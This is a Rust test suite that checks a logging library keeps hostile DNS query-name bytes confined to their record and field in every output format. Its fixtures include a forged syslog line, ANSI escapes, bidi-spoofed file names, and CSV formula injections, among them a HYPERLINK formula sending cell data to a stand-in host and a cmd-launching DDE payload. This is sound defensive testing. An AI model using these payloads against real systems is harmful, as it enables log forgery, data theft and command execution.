//! Log injection: a byte string field holding line breaks, control
//! characters, quotes, separators or invalid UTF-8 (a DNS query name from
//! the wire, say) must stay inside its own record and field in every
//! format, and come back exactly (JSON: invalid UTF-8 as U+FFFD, the one
//! documented loss) through the format's real reader:
//!
//! - text (default layout and a user template), JSON, CSV: written by a
//!   logger to a file with the file sink, read by python3 (`splitlines`,
//!   which breaks at every line boundary Python knows, NEL and U+2028
//!   included; `json.loads`; `csv.reader(strict=True)`), values
//!   unescaped by the rule `Escape` documents;
//! - RFC 5424 and RFC 3164: sent by a logger through the syslog sink
//!   (TCP, a frame per line) to rsyslogd on 127.0.0.1, which writes what
//!   it parsed (its raw structured data, and mmpstrucdata's values);
//! - binary and IPFIX (length-framed, values as raw bytes): dplog's
//!   binary reader and tshark give back every byte of the field.
//!
//! Every reader must see exactly the records written (the logger's
//! `written_records`), each with its values. The record is a user type,
//! not NAT, with one field of every kind.

use std::io::Write as _;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::OnceLock;
use std::time::Duration;

use dplog_core::schema::{FieldKind, HasSchema, Schema};
use dplog_core::{schema, Formatter, Logger, LoggerConfig, Record, RecordHeader, Sink};
use dplog_formatters::ipfix::split_messages;
use dplog_formatters::{binary, Format, FormatSpec, SchemaFormatter};
use dplog_sinks::{FileSink, SyslogSink, SyslogSinkOptions, SyslogTransport};
use dplog_testkit::rsyslog::Rsyslogd;
use dplog_testkit::tshark;
use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use serde_json::{json, Value};

/// A user record with one field of every kind: a DNS query seen on the
/// wire (`queryName` and `tag` are the attacker's bytes).
#[repr(C)]
#[derive(Clone, Copy, Debug)]
struct Probe {
    header: RecordHeader,
    time_ns: u64,
    ticks: u64,
    octets: u64,
    src6: [u8; 16],
    qname: [u8; 56],
    rule: u32,
    src4: u32,
    vlan: u16,
    sport: u16,
    mac: [u8; 6],
    ttl: u8,
    cached: u8,
    proto: u8,
    verdict: u8,
    tag: [u8; 2],
}

impl Record for Probe {
    const SCHEMA_ID: u16 = 901;
    fn header(&self) -> &RecordHeader {
        &self.header
    }
}

/// A declared enum name with the characters a value must not carry raw:
/// names are escaped as values are.
const ODD_NAME: &str = "odd \"name\"],\\ x\n";

// SAFETY: repr(C), 8 + 3 * 8 + 16 + 56 + 2 * 4 + 2 * 2 + 6 + 4 + 2 = 128
// bytes without padding (every field at a multiple of its alignment),
// described by the schema built from its own offset_of! values.
unsafe impl HasSchema for Probe {
    fn schema() -> &'static Schema {
        static S: OnceLock<Schema> = OnceLock::new();
        S.get_or_init(|| {
            schema!(Probe, id = 901, name = "probe", [
                time_ns => "eventTime": NsTimestamp, ie 0;
                ticks => "ticks": TscTimestamp, ie 0;
                octets => "octetDeltaCount": U64, ie 1;
                src6 => "sourceIPv6Address": Ipv6, ie 27;
                // dataLinkFrameSection and mplsLabelStackSection: IANA
                // octetArray elements, which tshark prints in hex.
                qname => "queryName": Bytes, ie 315;
                rule => "ruleId": U32, ie 0;
                src4 => "sourceIPv4Address": Ipv4, ie 8;
                vlan => "vlanId": U16, ie 58;
                sport => "sourceTransportPort": Port, ie 7;
                mac => "sourceMacAddress": Mac, ie 56;
                ttl => "ttl": U8, ie 0;
                cached => "cached": Bool, ie 0;
                proto => "protocolIdentifier": Protocol, ie 4;
                verdict => "verdict": Enum, ie 0,
                    names &[(0, "PASS"), (1, "DROP"), (3, ODD_NAME)];
                tag => "tag": Bytes, ie 316;
            ])
            .unwrap()
        })
    }
}

impl Probe {
    fn new(qname: &[u8], tag: &[u8]) -> Probe {
        let mut p = Probe {
            header: RecordHeader::of::<Probe>(),
            time_ns: 1_767_225_600_123_456_789,
            ticks: 5_000_000_000,
            octets: 1500,
            src6: [0x20, 1, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1],
            qname: [0; 56],
            rule: 7,
            src4: 0xC000_0201,
            vlan: 100,
            sport: 53,
            mac: [2, 0, 0x5e, 0, 0x53, 1],
            ttl: 64,
            cached: 1,
            proto: 17,
            verdict: 3,
            tag: [0; 2],
        };
        let n = qname.len().min(56);
        p.qname[..n].copy_from_slice(&qname[..n]);
        let n = tag.len().min(2);
        p.tag[..n].copy_from_slice(&tag[..n]);
        p
    }
}

/// A byte string field's value: its bytes up to the first NUL.
fn value(b: &[u8]) -> &[u8] {
    b.split(|&c| c == 0).next().unwrap_or(b)
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

/// The event time as every line format prints it (RFC 3339, µs).
fn rfc3339_us(ns: u64) -> String {
    chrono::DateTime::from_timestamp_nanos(ns as i64)
        .to_rfc3339_opts(chrono::SecondsFormat::Micros, true)
}

/// `(field name, value as the text layouts print it before escaping)` of
/// every field, in schema order.
fn text_values(p: &Probe) -> Vec<(&'static str, Vec<u8>)> {
    let name = match p.verdict {
        0 => "PASS".to_string(),
        1 => "DROP".to_string(),
        3 => ODD_NAME.to_string(),
        v => v.to_string(),
    };
    let mac: Vec<String> = p.mac.iter().map(|b| format!("{b:02x}")).collect();
    let s = |v: String| v.into_bytes();
    vec![
        ("eventTime", s((p.time_ns / 1_000_000).to_string())),
        // Identity calibration: ticks are ns until the consumer passes one.
        ("ticks", s((p.ticks / 1_000_000).to_string())),
        ("octetDeltaCount", s(p.octets.to_string())),
        (
            "sourceIPv6Address",
            s(std::net::Ipv6Addr::from(p.src6).to_string()),
        ),
        ("queryName", value(&p.qname).to_vec()),
        ("ruleId", s(p.rule.to_string())),
        (
            "sourceIPv4Address",
            s(std::net::Ipv4Addr::from(p.src4).to_string()),
        ),
        ("vlanId", s(p.vlan.to_string())),
        ("sourceTransportPort", s(p.sport.to_string())),
        ("sourceMacAddress", s(mac.join(":"))),
        ("ttl", s(p.ttl.to_string())),
        ("cached", s((p.cached != 0).to_string())),
        ("protocolIdentifier", s(p.proto.to_string())),
        ("verdict", s(name)),
        ("tag", value(&p.tag).to_vec()),
    ]
}

/// The JSON object of `p`: numbers for integers and times, `true` /
/// `false`, strings for the rest; a byte string's invalid UTF-8 as
/// U+FFFD.
fn json_value(p: &Probe) -> Value {
    let mut m = serde_json::Map::new();
    m.insert("timestamp".into(), json!(rfc3339_us(p.time_ns)));
    let kinds = Probe::schema().fields().iter().map(|f| f.kind);
    for ((name, v), kind) in text_values(p).into_iter().zip(kinds) {
        let text = String::from_utf8_lossy(&v).into_owned();
        let j = match kind {
            FieldKind::Bool => json!(p.cached != 0),
            FieldKind::Ipv4
            | FieldKind::Ipv6
            | FieldKind::Mac
            | FieldKind::Bytes
            | FieldKind::Enum => json!(text),
            _ => json!(text.parse::<u64>().unwrap()),
        };
        m.insert(name.into(), j);
    }
    Value::Object(m)
}

/// What an RFC 5424 parser that unescapes PARAM-VALUEs itself (by the
/// RFC: a backslash before any character but `"`, `\` and `]` is kept)
/// delivers: the value with every control character (Unicode's Cc: C0,
/// DEL, C1), U+2028, U+2029, the bidirectional controls and each byte of
/// invalid UTF-8 as `\xNN`.
fn rfc_level(v: &[u8]) -> String {
    let mut o = String::new();
    for chunk in v.utf8_chunks() {
        for c in chunk.valid().chars() {
            let bidi = matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
            if c.is_control() || c == '\u{2028}' || c == '\u{2029}' || bidi {
                let mut b = [0u8; 4];
                for x in c.encode_utf8(&mut b).bytes() {
                    o += &format!("\\x{x:02x}");
                }
            } else {
                o.push(c);
            }
        }
        for x in chunk.invalid() {
            o += &format!("\\x{x:02x}");
        }
    }
    o
}

/// Reads a file (or rsyslogd's output) as the format's real reader does;
/// prints `{"lines": <Python's splitlines count>, "rows": [...]}`. Values
/// are unescaped by the rule `Escape` documents and given in hex; any
/// other backslash sequence is an error. A line (CSV: a row) that does
/// not parse is the row `{"unparsed": ..., "error": ...}`.
const READER: &str = r#"
import csv, io, json, re, sys

TEXT = {"\\": 0x5C, "n": 0x0A, "r": 0x0D, "t": 0x09}
CSV = {"\\": 0x5C}
SD = {"\\": 0x5C, '"': 0x22, "]": 0x5D}

def unescape(s, pairs):
    b = s.encode("utf-8")
    out, i = bytearray(), 0
    while i < len(b):
        if b[i] != 0x5C:
            out.append(b[i])
            i += 1
        elif b[i + 1 : i + 2] == b"x" and re.fullmatch(rb"[0-9a-f]{2}", b[i + 2 : i + 4]):
            out.append(int(b[i + 2 : i + 4], 16))
            i += 4
        else:
            out.append(pairs[chr(b[i + 1])])
            i += 2
    return out.hex()

def pairs(tokens):
    return [[k, unescape(v, TEXT)] for k, v in (t.split("=", 1) for t in tokens)]

# Text and RFC 3164 split at any whitespace (str.split(): Unicode's, as
# Go's strings.Fields and Rust's split_whitespace), as a log tool would.
def text(l):
    return [l.split()[0], pairs(l.split()[1:])]

def template(l):
    return [unescape(t, TEXT) for t in l.split(" ")]

def rfc5424(l):
    m = json.loads(l)
    sd = re.fullmatch(r'\[([^ =\]"]+)((?: [^ =\]"]+="(?:[^"\\]|\\.)*")*)\]', m["sd"])
    params = re.findall(r' ([^ =\]"]+)="((?:[^"\\]|\\.)*)"', sd.group(2))
    return {"host": m["host"], "app": m["app"], "msgid": m["msgid"], "sdid": sd.group(1),
            "wire": [[k, unescape(v, SD)] for k, v in params],
            "parsed": json.loads(m["parsed"])}

def rfc3164(l):
    m = json.loads(l)
    toks = m["msg"].split()
    return {"host": m["host"], "tag": m["tag"], "msgid": toks[0], "pairs": pairs(toks[1:])}

def csv_row(r):
    return [unescape(c, CSV) for c in r]

def each(parse, items):
    rows = []
    for x in items:
        try:
            rows.append(parse(x))
        except Exception as e:
            rows.append({"unparsed": x, "error": repr(e)})
    return rows

mode, path = sys.argv[1], sys.argv[2]
data = open(path, "rb").read().decode("utf-8")
lines = data.splitlines()
formula = 0
if mode == "csv":
    raw = list(csv.reader(io.StringIO(data, newline=""), strict=True))
    # Cells a spreadsheet would run as a formula.
    formula = sum(1 for r in raw for c in r if c[:1] in ("=", "+", "-", "@"))
    rows = each(csv_row, raw)
else:
    parse = {"json": json.loads, "text": text, "template": template,
             "rfc5424": rfc5424, "rfc3164": rfc3164}[mode]
    rows = each(parse, lines)
print(json.dumps({"lines": len(lines), "rows": rows, "formula": formula}))
"#;

/// The file at `path`, for an assertion's message.
fn show(path: &Path) -> String {
    String::from_utf8_lossy(&std::fs::read(path).unwrap_or_default()).into_owned()
}

/// `READER` on `path` in `mode`: (Python's line count, rows).
fn read_back(mode: &str, path: &Path) -> (u64, Vec<Value>) {
    let out = Command::new("python3")
        .args(["-c", READER, mode])
        .arg(path)
        .output()
        .expect("python3 (run scripts/setup.sh)");
    assert!(
        out.status.success(),
        "{mode} reader failed on {}: {}\n--- file ---\n{}",
        path.display(),
        String::from_utf8_lossy(&out.stderr),
        String::from_utf8_lossy(&std::fs::read(path).unwrap_or_default())
    );
    if matches!(mode, "text" | "template" | "json" | "csv") {
        // Shown as written: no raw bidirectional control reorders a line.
        let data = String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned();
        let bidi = data.chars().find(|c| {
            matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        });
        assert_eq!(bidi, None, "{mode}: a raw bidirectional control\n{data}");
    }
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        v["formula"],
        0,
        "{mode}: a cell a spreadsheet reads as a formula\n{}",
        show(path)
    );
    let rows = v["rows"].as_array().unwrap().clone();
    (v["lines"].as_u64().unwrap(), rows)
}

/// `spec`'s formatter without the consumer's TSC calibration: the
/// `ticks` field then prints as ns (the identity), as `text_values` has
/// it, whatever this machine's TSC.
struct Uncalibrated(SchemaFormatter);

impl Formatter<Probe> for Uncalibrated {
    fn format(&mut self, r: &Probe, out: &mut Vec<u8>) {
        self.0.format(r, out)
    }
    fn take_skipped(&mut self) -> u64 {
        Formatter::<Probe>::take_skipped(&mut self.0)
    }
}

/// Runs `recs` through a logger with `spec`'s formatter into `sink`;
/// returns the records the logger counts as written.
fn log_through<S: Sink>(spec: &FormatSpec, sink: S, recs: &[Probe]) -> u64 {
    let f = Uncalibrated(spec.formatter(&[Probe::schema()]).unwrap());
    let logger = Logger::start(LoggerConfig::default(), f, sink).unwrap();
    let mut p = logger.producer().unwrap();
    for r in recs {
        assert!(p.log(*r));
    }
    drop(p);
    let stats = logger.shutdown().unwrap();
    assert_eq!(stats.dropped_sink + stats.dropped_full, 0, "{stats:?}");
    stats.written_records
}

fn spec(kind: Format) -> FormatSpec {
    FormatSpec {
        kind,
        ..Default::default()
    }
}

/// Writes `recs` in `spec` to a file through the file sink; the file's
/// path, after checking the logger wrote them all.
fn write_file(dir: &Path, name: &str, spec: &FormatSpec, recs: &[Probe]) -> PathBuf {
    let path = dir.join(name);
    let written = log_through(spec, FileSink::open(&path).unwrap(), recs);
    assert_eq!(written, recs.len() as u64, "{name}");
    path
}

/// The text rule's unescape (`Escape::Text`): `\\`, `\n`, `\r`, `\t`
/// and `\xNN` back to their byte.
fn unescape_text(s: &str) -> Vec<u8> {
    let b = s.as_bytes();
    let (mut out, mut i) = (Vec::new(), 0);
    while i < b.len() {
        if b[i] != b'\\' {
            out.push(b[i]);
            i += 1;
            continue;
        }
        match b[i + 1] {
            b'x' => {
                out.push(u8::from_str_radix(&s[i + 2..i + 4], 16).unwrap());
                i += 4;
            }
            c => {
                out.push(match c {
                    b'n' => b'\n',
                    b'r' => b'\r',
                    b't' => b'\t',
                    b'\\' => b'\\',
                    _ => panic!("unknown escape in {s:?}"),
                });
                i += 2;
            }
        }
    }
    out
}

/// Reads the text log at `path` as a Rust program would, with
/// `split_whitespace` (Unicode whitespace): each line must give exactly
/// its record's time and `name=value` pairs.
fn check_text_split_whitespace(path: &Path, recs: &[Probe]) {
    let data = std::fs::read_to_string(path).unwrap();
    let lines: Vec<&str> = data.lines().collect();
    assert_eq!(lines.len(), recs.len(), "{data}");
    for (r, l) in recs.iter().zip(lines) {
        let mut toks = l.split_whitespace();
        assert_eq!(toks.next(), Some(rfc3339_us(r.time_ns).as_str()), "{l}");
        let got: Vec<(String, Vec<u8>)> = toks
            .map(|t| {
                let (k, v) = t.split_once('=').unwrap_or((t, ""));
                (k.to_string(), unescape_text(v))
            })
            .collect();
        let want: Vec<(String, Vec<u8>)> = text_values(r)
            .into_iter()
            .map(|(n, v)| (n.to_string(), v))
            .collect();
        assert_eq!(got, want, "{l}");
    }
}

fn check_text(dir: &Path, recs: &[Probe]) {
    let path = write_file(dir, "probe.log", &spec(Format::Text), recs);
    check_text_split_whitespace(&path, recs);
    let (lines, rows) = read_back("text", &path);
    assert_eq!(
        lines,
        recs.len() as u64,
        "text: one line per record\n{}",
        show(&path)
    );
    for (r, row) in recs.iter().zip(&rows) {
        let pairs: Vec<Value> = text_values(r)
            .into_iter()
            .map(|(n, v)| json!([n, hex(&v)]))
            .collect();
        assert_eq!(row, &json!([rfc3339_us(r.time_ns), pairs]), "{r:?}");
    }
}

fn check_template(dir: &Path, recs: &[Probe]) {
    let mut s = spec(Format::Text);
    s.template = Some("{queryName} {verdict:name} {tag}".into());
    let path = write_file(dir, "probe.tpl.log", &s, recs);
    // A whitespace tokenizer splits a line only at the template's spaces.
    for l in std::fs::read_to_string(&path).unwrap().lines() {
        let spaces: Vec<&str> = l.split(' ').filter(|t| !t.is_empty()).collect();
        assert_eq!(l.split_whitespace().collect::<Vec<_>>(), spaces, "{l}");
    }
    let (lines, rows) = read_back("template", &path);
    assert_eq!(
        lines,
        recs.len() as u64,
        "template: one line per record\n{}",
        show(&path)
    );
    for (r, row) in recs.iter().zip(&rows) {
        let v = text_values(r);
        assert_eq!(
            row,
            &json!([hex(&v[4].1), hex(&v[13].1), hex(&v[14].1)]),
            "{r:?}"
        );
    }
}

fn check_json(dir: &Path, recs: &[Probe]) {
    let path = write_file(dir, "probe.jsonl", &spec(Format::Json), recs);
    let (lines, rows) = read_back("json", &path);
    assert_eq!(
        lines,
        recs.len() as u64,
        "JSON Lines: one line per record\n{}",
        show(&path)
    );
    let want: Vec<Value> = recs.iter().map(json_value).collect();
    assert_eq!(rows, want);
}

fn check_csv(dir: &Path, recs: &[Probe]) {
    let path = write_file(dir, "probe.csv", &spec(Format::Csv), recs);
    let (lines, rows) = read_back("csv", &path);
    assert_eq!(
        rows.len(),
        recs.len() + 1,
        "CSV: a header and one row per record\n{}",
        show(&path)
    );
    assert_eq!(
        lines,
        recs.len() as u64 + 1,
        "CSV: one physical line per row\n{}",
        show(&path)
    );
    let mut header = vec![hex(b"recordType"), hex(b"timestamp")];
    header.extend(text_values(&recs[0]).iter().map(|(n, _)| hex(n.as_bytes())));
    for c in dplog_formatters::layouts::CSV_DROP_COLUMNS {
        header.push(hex(c.as_bytes()));
    }
    assert_eq!(rows[0], json!(header));
    for (r, row) in recs.iter().zip(&rows[1..]) {
        let mut cells = vec![hex(b"probe"), hex(rfc3339_us(r.time_ns).as_bytes())];
        cells.extend(text_values(r).iter().map(|(_, v)| hex(v)));
        cells.extend(["", "", "", "", ""].map(String::from));
        assert_eq!(row, &json!(cells), "{r:?}");
    }
}

/// rsyslogd on 127.0.0.1 (TCP, octet counting) writing what it parsed
/// from each message, as one JSON object per line, to `<APP-NAME>.log`.
struct Rsyslog(Rsyslogd);

impl Rsyslog {
    fn start() -> Rsyslog {
        Rsyslog(Rsyslogd::start_tcp(
            r#"module(load="imtcp")
module(load="mmpstrucdata")
input(type="imtcp" address="127.0.0.1" port="{port}")
template(name="props" type="list" option.jsonf="on") {
  property(outname="host" name="hostname" format="jsonf")
  property(outname="app" name="app-name" format="jsonf")
  property(outname="tag" name="syslogtag" format="jsonf")
  property(outname="msgid" name="msgid" format="jsonf")
  property(outname="sd" name="structured-data" format="jsonf")
  property(outname="parsed" name="$!rfc5424-sd" format="jsonf")
  property(outname="msg" name="msg" format="jsonf")
}
template(name="file" type="string" string="{dir}/%app-name%.log")
action(type="mmpstrucdata" sd_name.lowercase="off")
action(type="omfile" dynaFile="file" template="props" flushOnTXEnd="on" asyncWriting="off")
"#,
        ))
    }

    /// Sends `recs` and then `end` (a plain record whose query name is
    /// `marker`) through the syslog sink; once rsyslogd has written
    /// `marker` (the stream is in order: every message before it is in),
    /// returns the file it wrote and the records the logger wrote.
    fn send(&self, spec: &FormatSpec, recs: &[Probe], marker: &str) -> (PathBuf, u64) {
        let addr = SocketAddr::from(([127, 0, 0, 1], self.0.port()));
        let sink = SyslogSink::new(SyslogSinkOptions::new(SyslogTransport::Tcp(addr))).unwrap();
        let mut all = recs.to_vec();
        all.push(Probe::new(marker.as_bytes(), b"ok"));
        let written = log_through(spec, sink, &all);
        let app = spec.syslog.app_name.clone().unwrap();
        let path = self.0.dir().join(format!("{app}.log"));
        dplog_testkit::wait_until(
            "rsyslogd writes the last message",
            Duration::from_secs(60),
            || {
                std::fs::read(&path)
                    .is_ok_and(|b| memchr::memmem::find(&b, marker.as_bytes()).is_some())
            },
        );
        (path, written)
    }
}

/// Syslog settings with a fresh APP-NAME (rsyslogd's file name).
fn syslog_spec(kind: Format) -> FormatSpec {
    static N: AtomicU64 = AtomicU64::new(0);
    let mut s = spec(kind);
    s.syslog.hostname = Some("probe-host".into());
    s.syslog.procid = Some("77".into());
    s.syslog.app_name = Some(format!("inj{}", N.fetch_add(1, Ordering::Relaxed)));
    s
}

fn check_rfc5424(rs: &Rsyslog, recs: &[Probe]) {
    let spec = syslog_spec(Format::Rfc5424);
    let app = spec.syslog.app_name.clone().unwrap();
    let (path, written) = rs.send(&spec, recs, "end-of-5424");
    let (lines, rows) = read_back("rfc5424", &path);
    assert_eq!(written, recs.len() as u64 + 1);
    assert_eq!(
        lines,
        written,
        "rsyslogd got one message per record\n{}",
        show(&path)
    );
    for (r, row) in recs.iter().zip(&rows) {
        let v = text_values(r);
        let wire: Vec<Value> = v.iter().map(|(n, v)| json!([n, hex(v)])).collect();
        let parsed: serde_json::Map<String, Value> = v
            .iter()
            .map(|(n, v)| (n.to_string(), json!(rfc_level(v))))
            .collect();
        // The message as sent: lossless by the documented unescape. As
        // mmpstrucdata unescaped it (RFC 5424 section 6.3.3), control
        // characters stay `\xNN`.
        let want = json!({
            "host": "probe-host", "app": app, "msgid": "probe", "sdid": "probe@32473",
            "wire": wire, "parsed": {"probe@32473": parsed},
        });
        assert_eq!(row, &want, "{r:?}");
    }
}

fn check_rfc3164(rs: &Rsyslog, recs: &[Probe]) {
    let spec = syslog_spec(Format::Rfc3164);
    let app = spec.syslog.app_name.clone().unwrap();
    let (path, written) = rs.send(&spec, recs, "end-of-3164");
    let (lines, rows) = read_back("rfc3164", &path);
    assert_eq!(written, recs.len() as u64 + 1);
    assert_eq!(
        lines,
        written,
        "rsyslogd got one message per record\n{}",
        show(&path)
    );
    for (r, row) in recs.iter().zip(&rows) {
        let pairs: Vec<Value> = text_values(r)
            .into_iter()
            .map(|(n, v)| json!([n, hex(&v)]))
            .collect();
        let want = json!({"host": "probe-host", "tag": format!("{app}:"), "msgid": "probe", "pairs": pairs});
        assert_eq!(row, &want, "{r:?}");
    }
}

/// Binary and IPFIX carry a byte string as its raw bytes (all of them,
/// NUL padding included): dplog's binary reader gives back each record
/// whole, tshark each byte string field.
fn check_framed(dir: &Path, recs: &[Probe]) {
    let mut out = Vec::new();
    let mut f = spec(Format::Binary).formatter(&[Probe::schema()]).unwrap();
    for r in recs {
        f.format(r, &mut out);
    }
    let path = dir.join("probe.bin");
    std::fs::File::create(&path)
        .unwrap()
        .write_all(&out)
        .unwrap();
    let file = std::fs::read(&path).unwrap();
    let d = binary::decode(&file);
    assert!(d.stopped.is_none(), "{:?}", d.stopped);
    let got: Vec<&[u8]> = d.records.iter().map(|(_, r)| *r).collect();
    let want: Vec<&[u8]> = recs.iter().map(|r| r.as_bytes()).collect();
    assert_eq!(got, want);

    let mut out = Vec::new();
    let mut f = spec(Format::Ipfix).formatter(&[Probe::schema()]).unwrap();
    for r in recs {
        f.format(r, &mut out);
    }
    let pcap = dir.join("probe.pcap");
    tshark::write_udp_pcap(&pcap, &split_messages(&out), 4739);
    let rows = tshark::fields(
        &pcap,
        4739,
        &[
            "cflow.data_link_frame_section",
            "cflow.mpls_label_stack_section",
        ],
    );
    let col = |i: usize| -> Vec<String> {
        rows.iter()
            .filter(|r| !r[i].is_empty())
            .flat_map(|r| r[i].split(',').map(String::from).collect::<Vec<_>>())
            .collect()
    };
    assert_eq!(
        col(0),
        recs.iter().map(|r| hex(&r.qname)).collect::<Vec<_>>()
    );
    assert_eq!(col(1), recs.iter().map(|r| hex(&r.tag)).collect::<Vec<_>>());
}

fn check_all(rs: &Rsyslog, recs: &[Probe]) {
    let dir = tempfile::tempdir().unwrap();
    check_text(dir.path(), recs);
    check_template(dir.path(), recs);
    check_json(dir.path(), recs);
    check_csv(dir.path(), recs);
    check_rfc5424(rs, recs);
    check_rfc3164(rs, recs);
    check_framed(dir.path(), recs);
}

/// The forged line of the report, and every character class a value must
/// not carry raw.
fn nasty() -> Vec<Probe> {
    let forged = b"x\n<134>1 2026-01-01T00:00:00Z evil app - - - FORGED";
    let mut recs = vec![Probe::new(forged, b"\r\n")];
    for (q, t) in [
        (&b"\r\nCR-LF"[..], &b"\x1b["[..]),
        (b"\x1b[2J\x1b[1;31mred", b"\x01"),
        (b"nul\0inside", b"a\0"),
        (b"quote\"bracket]back\\slash", b"\"]"),
        (b"a,b,,\"c\"", b","),
        (b"sp ace key=val ruleId=666", b" ="),
        (b"bad \xff\xfe utf8 \xe2\x80 cut", b"\xc3"),
        ("nel\u{85}next".as_bytes(), "\u{85}".as_bytes()),
        ("ls\u{2028}ps\u{2029}".as_bytes(), b"\x7f"),
        ("\u{feff}bom first".as_bytes(), b"\\x"),
        (br"\x0a literal \\x0a \n", br"\n"),
        (
            "tab\tvt\x0bff\x0cfs\x1cgs\x1drs\x1eus\x1f".as_bytes(),
            b"\t",
        ),
        ("é\u{a0}\u{1F600}中".as_bytes(), "é".as_bytes()),
        // Unicode whitespace, which tokenizers split at: the trial's
        // forged pairs, then every other such character.
        (
            "x\u{a0}ruleId=999\u{3000}ttl=1\u{2003}sourceIPv4Address=10.6.6.6".as_bytes(),
            "\u{a0}".as_bytes(),
        ),
        (
            "\u{1680}a\u{2000}\u{2001}\u{2002}\u{2004}\u{2005}\u{2006}b\u{2007}\u{2008}\u{2009}\u{200a}\u{202f}\u{205f}c\u{85}\u{2028}\u{2029}\u{3000}".as_bytes(),
            "\u{202f}".as_bytes(),
        ),
        // Formulas, as a spreadsheet would run them from a CSV cell.
        (
            &b"=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")"[..],
            &b"@"[..],
        ),
        (b"+1+cmd|' /C calc'!A0", b"-"),
        (b"-2+3", b"=1"),
        // Bidirectional controls: a file name that displays as
        // "adminexe.txt", an isolate run, the marks.
        (
            "admin\u{202e}txt.exe\u{202c} \u{2066}x\u{2069}\u{200f}\u{61c}".as_bytes(),
            "\u{202d}".as_bytes(),
        ),
        (b"", b""),
    ] {
        recs.push(Probe::new(q, t));
    }
    // Every enum value: named, unnamed (decimal), the odd name.
    for (i, r) in recs.iter_mut().enumerate() {
        r.verdict = (i % 4) as u8;
        r.time_ns += i as u64 * 1_000_000_007;
    }
    recs
}

#[test]
fn text_lines_keep_hostile_byte_strings_in_their_record_and_field() {
    let dir = tempfile::tempdir().unwrap();
    check_text(dir.path(), &nasty());
    check_template(dir.path(), &nasty());
}

#[test]
fn json_lines_keep_hostile_byte_strings_in_their_record() {
    let dir = tempfile::tempdir().unwrap();
    check_json(dir.path(), &nasty());
}

#[test]
fn csv_rows_keep_hostile_byte_strings_in_their_record_and_line() {
    let dir = tempfile::tempdir().unwrap();
    check_csv(dir.path(), &nasty());
}

#[test]
fn rfc5424_messages_keep_hostile_byte_strings_in_their_record() {
    check_rfc5424(&Rsyslog::start(), &nasty());
}

#[test]
fn rfc3164_messages_keep_hostile_byte_strings_in_their_record_and_field() {
    check_rfc3164(&Rsyslog::start(), &nasty());
}

#[test]
fn binary_and_ipfix_carry_hostile_byte_strings_raw() {
    let dir = tempfile::tempdir().unwrap();
    check_framed(dir.path(), &nasty());
}

/// A byte string built from pieces that break lines, fields, quoting or
/// UTF-8, and plain text.
fn hostile(max: usize) -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        3 => any::<u8>().prop_map(|b| vec![b]),
        3 => prop::sample::select(vec![
            "\n", "\r", "\r\n", "\x1b[2J", "\x01", "\x00", "\"", "]", "\\", "\\x0a", ",", " ",
            "=", "\u{7f}", "\u{85}", "\u{9f}", "\u{2028}", "\u{2029}", "\u{feff}", "é",
            "\u{202e}", "\u{2067}", "\u{200e}", "=", "+", "-", "@",
            "\u{1F600}", "<134>1 ", "\u{a0}", "\u{3000}", "\u{2003}", "\u{1680}",
            "\u{202f}", "\u{205f}", " ruleId=1",
        ])
        .prop_map(|s| s.as_bytes().to_vec()),
        1 => Just(vec![0xe2, 0x80]),
        2 => "[a-z0-9.-]{1,8}".prop_map(String::into_bytes),
    ];
    prop::collection::vec(piece, 0..16).prop_map(move |v| {
        let mut b = v.concat();
        b.truncate(max);
        b
    })
}

fn probe() -> impl Strategy<Value = Probe> {
    (
        (any::<u64>(), any::<u64>(), 0..4_000_000_000_000_000_000u64),
        (any::<[u8; 16]>(), any::<u32>(), any::<u32>()),
        (any::<u16>(), any::<u16>(), any::<[u8; 6]>()),
        (any::<u8>(), any::<u8>(), any::<u8>(), 0..5u8),
        (hostile(56), hostile(2)),
    )
        .prop_map(|(a, b, c, d, (q, t))| {
            let mut p = Probe::new(&q, &t);
            (p.octets, p.ticks, p.time_ns) = a;
            (p.src6, p.rule, p.src4) = b;
            (p.vlan, p.sport, p.mac) = c;
            (p.ttl, p.cached, p.proto, p.verdict) = d;
            p
        })
}

#[test]
fn random_hostile_byte_strings_stay_in_their_record_in_every_format() {
    let rs = Rsyslog::start();
    // Each case runs every format through its reader (rsyslogd, python3,
    // tshark): a few cases of up to 24 records.
    let mut runner = TestRunner::new(Config {
        cases: 6,
        failure_persistence: None,
        ..Config::default()
    });
    runner
        .run(&prop::collection::vec(probe(), 1..24), |recs| {
            check_all(&rs, &recs);
            Ok(())
        })
        .unwrap();
}
